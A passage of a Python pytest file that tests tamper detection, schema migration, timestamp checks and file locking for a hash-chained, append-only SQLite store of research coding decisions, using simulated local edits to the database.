        restore_triggers(conn)
    assert verify_store(chained).problem.startswith(
        "decisions row id 3 (seq 3): comes after decisions row id 60 in the chain but has a smaller id")


def test_row_inserted_outside_the_chain(chained: Path) -> None:
    conn = sqlite3.connect(chained)
    with pytest.raises(sqlite3.DatabaseError, match="hash-chained"):  # the insert guard
        conn.execute("INSERT INTO decisions (unit_id, code_id, coder, action, decided_at)"
                     " VALUES ('p1#0', 'X', 'ann', 'add', '2024-01-01T00:00:00.000000Z')")
    conn.close()
    with attacker(chained) as conn:
        conn.execute("INSERT INTO decisions (unit_id, code_id, coder, action, decided_at)"
                     " VALUES ('p1#0', 'X', 'ann', 'add', '2024-01-01T00:00:00.000000Z')")
        restore_triggers(conn)
    assert verify_store(chained).problem == (
        "decisions row id 8: not in the hash chain (it has no seq) — inserted by hand")


def test_triggers_must_be_present_unchanged_and_alone(chained: Path) -> None:
    conn = sqlite3.connect(chained, isolation_level=None)
    conn.execute("DROP TRIGGER reviews_no_delete")
    conn.close()
    assert verify_store(chained).problems == [
        "trigger reviews_no_delete was dropped — a safeguard of the store was removed by hand"]
    with pytest.raises(PostkitError, match="altered by hand: trigger reviews_no_delete was dropped"):
        CodingStore(chained)
    conn = sqlite3.connect(chained, isolation_level=None)
    conn.execute("CREATE TRIGGER reviews_no_delete BEFORE DELETE ON reviews BEGIN SELECT 1; END")
    conn.execute("CREATE TRIGGER swallow BEFORE INSERT ON decisions BEGIN SELECT RAISE(IGNORE); END")
    conn.close()
    assert verify_store(chained).problems == [
        "trigger reviews_no_delete was changed — a safeguard of the store was altered by hand",
        "unknown trigger swallow on table decisions — added by hand; it could alter or drop new rows"]
    with pytest.raises(PostkitError, match="altered by hand"):  # a writer would lose decisions silently
        CodingStore(chained)


def test_recorded_time_never_goes_back(tmp_path: Path, monkeypatch) -> None:
    import postkit.coding.store as store_module

    path = tmp_path / "coding.sqlite"
    with CodingStore(path) as s:
        s.add_excerpts(EXCERPTS)
        s.decide("p1#0", "ISOLATION", "ann", "accept")
        real = store_module._utc_iso
        monkeypatch.setattr(store_module, "_utc_iso", lambda at=None: real(at) if at else BACK_THEN)
        s.decide("p1#0", "ISOLATION", "ann", "reject")  # the clock stepped back a year
        monkeypatch.undo()
        times = [r[0] for r in s._conn.execute("SELECT recorded_at FROM decisions ORDER BY seq")]
    assert times[0] == times[1] != BACK_THEN
    assert verify_store(path).ok


def test_future_decision_time_refused(store: CodingStore) -> None:
    with pytest.raises(PostkitError, match="future"):
        store.decide("p1#0", "ISOLATION", "ann", "accept", at=datetime.now(UTC) + timedelta(days=1))
    with pytest.raises(PostkitError, match="future"):
        store.add_review("quote", "q1", "ann", "approve", at=datetime.now(UTC) + timedelta(days=1))
    assert store.decisions().empty and store.reviews().empty


# Schema 1 exactly as postkit wrote it before the hash chain (a fixture: do not update).
V1_SCHEMA = """
CREATE TABLE IF NOT EXISTS excerpts (
    unit_id  TEXT PRIMARY KEY,
    post_id  TEXT,
    forum    TEXT,
    text     TEXT,
    start    INTEGER,
    end      INTEGER,
    added_at TEXT
);
CREATE TABLE IF NOT EXISTS suggestions (
    unit_id          TEXT NOT NULL REFERENCES excerpts(unit_id),
    code_id          TEXT NOT NULL,
    score            REAL,
    evidence         TEXT,  -- JSON list of {start, end, text}
    codebook_version TEXT NOT NULL,
    created_at       TEXT,
    PRIMARY KEY (unit_id, code_id, codebook_version)
);
CREATE TABLE IF NOT EXISTS decisions (
    id               INTEGER PRIMARY KEY,
    unit_id          TEXT NOT NULL REFERENCES excerpts(unit_id),
    code_id          TEXT NOT NULL,
    coder            TEXT NOT NULL,
    action           TEXT NOT NULL CHECK (action IN ('accept', 'reject', 'add', 'remove')),
    memo             TEXT,
    decided_at       TEXT NOT NULL,  -- ISO 8601 UTC
    codebook_version TEXT
);
CREATE INDEX IF NOT EXISTS decisions_by_key ON decisions (unit_id, coder, code_id);
CREATE TABLE IF NOT EXISTS reviews (
    id         INTEGER PRIMARY KEY,
    kind       TEXT NOT NULL,
    item_id    TEXT NOT NULL,
    reviewer   TEXT NOT NULL,
    action     TEXT NOT NULL,
    text       TEXT,
    scores     TEXT,  -- JSON
    note       TEXT,
    decided_at TEXT NOT NULL
);
CREATE INDEX IF NOT EXISTS reviews_by_kind ON reviews (kind, item_id);
CREATE TRIGGER IF NOT EXISTS decisions_no_update BEFORE UPDATE ON decisions
BEGIN SELECT RAISE(ABORT, 'decisions are append-only'); END;
CREATE TRIGGER IF NOT EXISTS decisions_no_delete BEFORE DELETE ON decisions
BEGIN SELECT RAISE(ABORT, 'decisions are append-only'); END;
CREATE TRIGGER IF NOT EXISTS reviews_no_update BEFORE UPDATE ON reviews
BEGIN SELECT RAISE(ABORT, 'reviews are append-only'); END;
CREATE TRIGGER IF NOT EXISTS reviews_no_delete BEFORE DELETE ON reviews
BEGIN SELECT RAISE(ABORT, 'reviews are append-only'); END;
PRAGMA user_version = 1;
"""


def make_v1_store(path: Path) -> None:
    conn = sqlite3.connect(path)
    conn.executescript(V1_SCHEMA)
    conn.execute("INSERT INTO excerpts (unit_id, text) VALUES ('p1#0', 'I felt so alone.')")
    conn.executemany("INSERT INTO decisions (unit_id, code_id, coder, action, memo, decided_at) VALUES (?, ?, ?, ?, ?, ?)",
                     [("p1#0", "ISOLATION", "ann", "accept", "clear", "2024-05-02T00:00:00.000000Z"),
                      ("p1#0", "ISOLATION", "ann", "reject", None, "2024-05-01T00:00:00.000000Z"),  # back-dated
                      ("p1#0", "SUPPORT", "bob", "add", 7, "2024-05-03T00:00:00.000000Z")])  # a number memo
    conn.executemany("INSERT INTO reviews (kind, item_id, reviewer, action, scores, decided_at) VALUES (?, ?, ?, ?, ?, ?)",
                     [("quote", "q1", "ann", "approve", '{"bleu": 0.1}', "2024-05-01T00:00:00.000000Z"),
                      ("quote", "q2", "bob", "reject", None, "2024-04-01T00:00:00.000000Z")])
    conn.commit()
    conn.close()


def test_schema_1_store_is_migrated_and_chained(tmp_path: Path) -> None:
    path = tmp_path / "coding.sqlite"
    make_v1_store(path)
    unchained = verify_store(path)
    assert not unchained.ok and "schema 1: this store has no hash chain yet" in unchained.problem
    with CodingStore(path, read_only=True) as reader:  # reading does not migrate
        assert reader.schema == 1 and reader.head() is None
        before = reader.decisions()
    with CodingStore(path) as s:
        assert s.schema == SCHEMA_VERSION == 2
        pd.testing.assert_frame_equal(s.decisions(), before)
        order = [(r[0], r[1]) for r in s._conn.execute(
            "SELECT 'd', id FROM decisions UNION ALL SELECT 'r', id FROM reviews ORDER BY 1, 2")]
        seqs = [r[0] for r in s._conn.execute("SELECT seq FROM decisions UNION ALL SELECT seq FROM reviews")]
        assert len(order) == 5 and sorted(seqs) == [1, 2, 3, 4, 5]
        assert [r[0] for r in s._conn.execute("SELECT seq FROM reviews ORDER BY id")] == [4, 5]  # decisions first
        s.decide("p1#0", "ISOLATION", "ann", "accept")
    result = verify_store(path)
    assert result.ok, result.render()
    assert result.rows == {"decisions": 4, "reviews": 2}
    assert len(result.notes) == 1 and result.notes[0].startswith(
        "the first 5 row(s) were chained when the store was migrated from schema 1 at ")
    assert "only as trustworthy as the file was then" in result.render()
    with attacker(path) as conn:  # migrated rows are protected like any other
        conn.execute("UPDATE decisions SET memo = 'edited' WHERE id = 1")
    assert verify_store(path).problem.startswith("decisions row id 1 (seq 1): edited")


def test_schema_1_store_with_tampered_triggers_is_not_migrated(tmp_path: Path) -> None:
    path = tmp_path / "coding.sqlite"
    make_v1_store(path)
    conn = sqlite3.connect(path)
    conn.execute("DROP TRIGGER decisions_no_update")
    conn.commit()
    conn.close()
    with pytest.raises(PostkitError, match="cannot add the hash chain: trigger decisions_no_update was dropped"):
        CodingStore(path)
    assert sqlite3.connect(path).execute("PRAGMA user_version").fetchone()[0] == 1  # left as it was


# -- read-only use, locks, a replaced store -------------------------------------------------


def test_read_only_store_takes_no_lock_and_refuses_writes(chained: Path, tmp_path: Path) -> None:
    with PathLock(chained, mode=EXCLUSIVE, purpose="postkit run"):
        with CodingStore(chained, read_only=True) as reader:
            assert len(reader.decisions()) == 7
            with pytest.raises(PostkitError, match="read-only"):
                reader.decide("p1#0", "ISOLATION", "ann", "accept")
    with pytest.raises(PostkitError, match="does not exist"):
        CodingStore(tmp_path / "missing.sqlite", read_only=True)
    assert not (tmp_path / "missing.sqlite").exists()
    garbage = tmp_path / "notes.sqlite"
    garbage.write_text("hello, this is not a database at all " * 50)
    with pytest.raises(PostkitError, match="not a postkit coding store"):
        CodingStore(garbage, read_only=True)


def test_writer_holds_a_shared_lock_on_its_run_folder(tmp_path: Path) -> None:
    run = tmp_path / "run"
    (run / "tag").mkdir(parents=True)
    (run / "manifest.json").write_text("{}")
    path = run / "tag" / "coding.sqlite"
    with CodingStore(path, purpose="review app"):
        with pytest.raises(PostkitError, match="review app"):  # a rerun cannot replace the folder
            PathLock(run, mode=EXCLUSIVE, purpose="postkit run").acquire()
        with CodingStore(path, purpose="postkit code import-sheet") as second:  # writers share it
            assert second.progress()["decisions_total"] == 0
    with PathLock(run, mode=EXCLUSIVE, purpose="postkit run"):
        with pytest.raises(PostkitError, match="run folder is in use by postkit run") as info:
            CodingStore(path)
        assert "wait" in info.value.fix
    with PathLock(run, mode=EXCLUSIVE, purpose="postkit run"):  # released when the store closed
        pass
    assert not lock_file_for(run).exists()


def test_store_outside_a_run_folder_locks_its_file(tmp_path: Path) -> None:
    path = tmp_path / "coding.sqlite"
    with CodingStore(path):
        assert lock_file_for(path).exists()
        with pytest.raises(PostkitError, match="in use"):
            PathLock(path, mode=EXCLUSIVE).acquire()
    assert not lock_file_for(path).exists()


@pytest.mark.parametrize("how", ["file replaced", "folder replaced", "deleted"])
def test_replaced_or_deleted_store_refuses_every_later_write(tmp_path: Path, how: str) -> None:
    folder = tmp_path / "run"
    folder.mkdir()
    path = folder / "coding.sqlite"
    with CodingStore(path, purpose="review app") as s:
        s.add_excerpts(EXCERPTS)
        s.decide("p1#0", "ISOLATION", "ann", "accept")
        if how == "file replaced":
            with CodingStore(tmp_path / "other.sqlite") as fresh:
                fresh.add_excerpts(EXCERPTS)
            os.replace(tmp_path / "other.sqlite", path)
        elif how == "folder replaced":  # what a rerun does to a run folder
            (tmp_path / "new").mkdir()
            with CodingStore(tmp_path / "new" / "coding.sqlite") as fresh:
                fresh.add_excerpts(EXCERPTS)
            os.rename(folder, tmp_path / "old")
            os.rename(tmp_path / "new", folder)
        else:
            os.unlink(path)
        with pytest.raises(StoreReplacedError, match="replaced or deleted since it was opened") as info:
            s.decide("p1#0", "ISOLATION", "ann", "reject")
        assert "restart the review app" in info.value.fix
        with pytest.raises(PostkitError, match="replaced or deleted"):
            s.add_review("quote", "q1", "ann", "approve")
        with pytest.raises(PostkitError, match="replaced or deleted"):
            s.check_unchanged()
        # nothing reached the old file either
        assert s._conn.execute("SELECT count(*) FROM decisions").fetchone()[0] == 1
        assert s._conn.execute("SELECT count(*) FROM reviews").fetchone()[0] == 0
    if how == "folder replaced":
        with CodingStore(path, read_only=True) as new:
            assert new.decisions().empty and new.reviews().empty
        assert verify_store(tmp_path / "old" / "coding.sqlite").rows == {"decisions": 1, "reviews": 0}
